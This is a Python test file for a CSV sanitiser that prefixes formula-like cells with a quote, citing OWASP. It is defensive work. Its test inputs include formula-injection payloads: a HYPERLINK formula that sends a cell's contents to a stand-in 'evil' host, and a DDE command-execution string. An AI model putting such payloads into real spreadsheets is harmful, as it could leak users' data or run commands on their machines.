"""CSV cells: formula-like text gets a leading quote (OWASP), everything else is left as it is."""

from __future__ import annotations

import pytest

from kg.cells import csv_cell


@pytest.mark.parametrize("text,expected", [
    ('=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'),
    ("=", "'="), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-12.5", "-12.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("Qdrant", "Qdrant"), ("", ""), ("a=b", "a=b"),
])
def test_csv_cell(text, expected):
    assert csv_cell(text) == expected
